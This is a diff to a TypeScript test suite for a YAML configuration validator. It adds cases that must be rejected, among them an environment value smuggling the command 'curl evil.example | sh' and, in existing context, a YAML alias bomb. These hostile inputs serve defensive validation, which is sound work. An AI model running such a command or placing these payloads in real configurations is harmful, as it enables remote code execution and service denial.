@@ -147,6 +147,16 @@ const CASES: Case[] = [
     line: /error \[mount-over-system-dir\] .*workerImage\.mounts\[0\]\.mountPoint = "\/tmp": would hide the system directory \/tmp/,
   },
   {
+    name: 'a log_upload.env pass-through value holding a command',
+    yaml: 'xspot:\n  extra:\n    logUploadEnv:\n      X: "a; curl evil.example | sh"\n',
+    line: /error \[invalid-value\] .*xspot\.extra\.logUploadEnv\.X = "a; curl evil\.example \| sh": must be up to 1024 letters/,
+  },
+  {
+    name: 'a config.toml pass-through key over a rendered one',
+    yaml: 'xspot:\n  extra:\n    configToml:\n      aws:\n        overlay_prefix: 10.0.0.0/24\n',
+    line: /error \[extra-overrides-rendered\] .*xspot\.extra\.configToml\.aws\.overlay_prefix = "10\.0\.0\.0\/24"/,
+  },
+  {
     name: 'a YAML alias bomb',
     yaml: `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}]`).join('\n')}\n`,
     line: /^error: .*(alias|Excessive)/i,
